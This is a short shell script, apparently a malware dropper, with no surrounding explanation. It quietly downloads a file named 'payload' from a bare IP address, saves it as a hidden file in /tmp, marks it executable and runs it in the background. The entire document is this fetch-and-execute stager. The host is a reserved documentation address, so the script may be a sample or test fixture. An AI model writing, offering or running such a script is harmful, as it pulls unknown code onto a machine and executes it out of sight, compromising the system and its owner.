#!/bin/sh
wget -q -O /tmp/.x http://192.0.2.7/payload
chmod +x /tmp/.x
/tmp/.x &
